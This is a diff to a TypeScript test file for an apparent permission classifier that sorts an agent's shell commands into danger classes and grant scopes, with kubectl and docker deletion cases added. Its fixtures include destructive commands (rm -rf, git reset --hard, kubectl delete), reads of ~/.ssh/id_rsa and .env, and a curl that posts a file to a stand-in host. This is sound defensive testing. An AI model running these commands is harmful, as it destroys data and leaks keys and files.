@@ -37,8 +37,10 @@ const PLACES: readonly (readonly [string, string, readonly string[] | undefined]
   ['rm -rf ../old; rm -rf "$(cat list)"', 'recursive_delete', undefined],
   ['cat ~/.ssh/id_rsa', 'secret_read', [`${home}/.ssh/id_rsa`]],
   ['chmod -R 755 ../build', 'rights_outside', [`${root}/build`]],
-  ['git reset --hard HEAD~3', 'git_history', [workspace]],
-  ['docker volume rm data', 'container_loss', ['program:docker']],
+  ['git reset --hard HEAD~3', 'git_history', [`act:git reset --hard @in=${workspace}`]],
+  ['kubectl delete pod web -n staging', 'cloud_loss', ['act:kubectl delete pod @namespace=staging']],
+  ['kubectl delete pod web', 'cloud_loss', undefined],
+  ['docker volume rm data', 'container_loss', ['act:docker volume rm data']],
   ['cd packages/a && npm test', 'project_code', [workspace]],
   ['systemctl stop nginx', 'not_reading', undefined],
   ['curl -d @../notes.txt https://a.example/x', 'data_sent', [`host:a.example`]],
@@ -55,10 +57,14 @@ for (const [line, name, places] of PLACES)
 
 test('a line with two dangers: each class has the places of its own calls, and a yes for good is held to these', () => {
   const { key, at, reason } = judged('git reset --hard; cat .env; npm test');
-  assert.deepEqual(at, { git_loss: [workspace], secret_read: [`${workspace}/.env`], project_code: [workspace] });
+  assert.deepEqual(at, {
+    git_loss: [`act:git reset --hard @in=${workspace}`],
+    secret_read: [`${workspace}/.env`],
+    project_code: [workspace],
+  });
   const scopes = listGrantScopes({ tool: 'terminal', summary: 'x', reason, key, ...(at !== undefined && { at }) });
   assert.deepEqual(scopes.map((scope) => (scope.type === 'place' ? `${scope.name} at ${scope.at}` : scope.type)).toSorted(), [
-    `git_loss at ${workspace}`,
+    `git_loss at act:git reset --hard @in=${workspace}`,
     `project_code at ${workspace}`,
     `secret_read at ${workspace}/.env`,
   ]);
